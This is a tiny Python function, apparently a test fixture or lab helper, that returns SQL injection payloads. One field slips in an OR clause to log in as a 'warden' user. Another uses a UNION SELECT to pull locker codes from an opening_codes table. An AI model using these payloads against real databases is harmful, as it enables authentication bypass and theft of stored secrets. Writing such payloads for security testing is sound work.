def payloads() -> dict:
    return {"name": 'x', "pin": "' OR name = 'warden", "place": "%' AND 0 UNION ALL SELECT locker, code FROM opening_codes --"}
